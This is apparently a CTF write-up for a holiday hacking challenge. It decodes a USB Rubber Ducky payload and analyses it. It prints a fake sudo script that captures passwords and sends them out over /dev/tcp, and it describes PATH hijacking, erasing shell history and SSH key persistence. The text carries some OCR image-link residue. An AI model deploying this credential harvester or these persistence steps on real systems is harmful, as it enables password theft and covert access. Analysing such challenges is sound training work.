Skip to content

Strange USB Device⚓

Direct link: ducky terminal
Terminal hint: IPv6 Sandbox



Assist the elves in reverse engineering the strange USB device. Visit Santa's Talks Floor and hit up Jewel Loggins for advice.

Morcel Nougat

Hello and welcome to the speaker _Un_Preparedness Room!
I'm Morcel Nougat, elf extraordinaire.
I've heard the talks at the other con across the way are a bit... off.
I really don't think they have the right sense about what makes for a wonderful holiday season. But, anyway!
Say, do you know anything about USB Rubber Duckies?I've been playing around with them a bit myself.
Please see what you can do to help solve the Rubber Ducky Objective!
Oh, and if you need help, I hear Jewel Loggins, on this floor outside this room, has some experience.


Ducky Script

Ducky Script is the language for the USB Rubber Ducky.

Ducky RE with Mallard

It's also possible the reverse engineer encoded Ducky Script using Mallard.

Mitre ATT&CK and Ducky

The MITRE ATT&CK tactic T1098.004 describes SSH persistence techniques through authorized keys files.

Duck Encoder

Attackers can encode Ducky Script using a duck encoder for delivery as inject.bin.


Welcome messageA random USB device, oh what could be the matter?
It seems a troll has left this, right on a silver platter.
Oh my friend I need your ken, this does not smell of attar.
Help solve this challenge quick quick, I shall offer no more natter.

Evaluate the USB data in /mnt/USBDEVICE.
What is the troll username involved with this attack?

The objective is to find the username of the troll involved with this attack. Start by following the instructions in the welcome message and list the contents of the /mnt/USBDEVICE to find an encoded inject.bin Ducky Script file. We can decode the file using Mallard which is availabe in our home folder as


Running python --file /mnt/USBDEVICE/inject.bin prints out the original Ducky Script commands.

Run MallardThe script creates a ~/.config/sudo folder containing a malicious sudo script. When executed, the script requests a password (lines 3-4) and uses the value as input for the legitimate sudo tool to verify the password is correct (line 6). Regardless if the password is valid or not the data is then sent to on TCP port 1337 (lines 9 and 13). If the password is incorrect, the script is run again (lines 10-11). If the password is correct it's passed to the legitimate sudo tool (line 14).


Note: the malicious sudo script appears to contain a few errors, starting with the shebang line which includes a redundant output redirect statement. The script also starts by executing the legitimate /usr/bin/sudo command on line 2, followed by aread statement which will result in the user being asked for their password twice. Finally, there's a redundant fi statement on line 16 which will cause the script to fail.

#!/bin/bash > ~/.config/sudo/sudo
/usr/bin/sudo $@
echo -n "[sudo] password for $USER: "
read -s pwd
echo "$pwd" | /usr/bin/sudo -S true 2>/dev/null
if [ $? -eq 1 ]
echo "$USER:$pwd:invalid" > /dev/tcp/
echo "Sorry, try again."
sudo $@
echo "$USER:$pwd:valid" > /dev/tcp/
echo "$pwd" | /usr/bin/sudo -S $@

Next, the ~/.config/sudo/sudo script is madeexecutable and the $PATH environment variable in both ~/.bash_profile and ~/.bashrc is updated to ensure that the ~/.config/sudo/ path takes precedence over any other configured paths. The last part of the Ducky Script reverses a string, Base64 decodes it, executes the decoded instructions via bash, and erases any shell history evidence by running history-c and deleting the .bash_history file.Reverse and Base64 decodeManually reversing and Base64 decoding the string yields an echo statement which copies the SSH key for user into the ~/.ssh/authorized_keys file, enabling easy SSH access to the host.